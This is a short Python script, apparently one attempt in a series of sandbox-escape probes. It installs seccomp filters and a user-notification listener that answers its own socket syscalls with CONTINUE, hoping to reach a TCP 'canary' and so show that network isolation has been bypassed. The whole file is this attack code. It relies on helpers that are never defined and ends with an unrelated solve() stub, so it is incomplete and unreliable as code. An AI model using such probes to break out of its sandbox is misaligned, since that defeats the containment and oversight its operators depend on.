# TRIES: more seccomp filters: one that allows everything, a user notification listener that answers for its own calls with success or
# CONTINUE, TSYNC, strict mode off. SUCCESS: the TCP canary is reached.
#: check = canary tcp
#: short = yes
#: start = syscalls

import struct, threading, socket


def prog(*rules):
    code = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *r) for r in rules))
    keep.append(code)
    p = ctypes.create_string_buffer(struct.pack("=H6xQ", len(rules), ctypes.addressof(code)))
    keep.append(p)
    return p


keep = []
print(tell(sc(317, 1, 0, prog((6, 0, 0, 0x7FFF0000)))), tell(sc(157, 22, 0, 0, 0, 0)))
fd = sc(317, 1, 8, prog((0x20, 0, 0, 0), (0x15, 0, 1, 41), (6, 0, 0, 0x7FC00000), (6, 0, 0, 0x7FFF0000)))
print("listener", tell(fd))


def answer():
    import fcntl

    while True:
        b = bytearray(80)
        try:
            fcntl.ioctl(fd, 0xC0502100, b)
        except OSError as e:
            print(e)
            return
        r = bytearray(struct.pack("=QqiI", struct.unpack("=Q", b[:8])[0], 0, 0, 1))
        try:
            fcntl.ioctl(fd, 0xC0182101, r)
        except OSError as e:
            print(e)


if fd > 0:
    threading.Thread(target=answer, daemon=True).start()
try:
    socket.create_connection(("127.0.0.1", __TCP__), 1)
    print("connected")
except OSError as e:
    print(e)


def solve(x):
    return 2
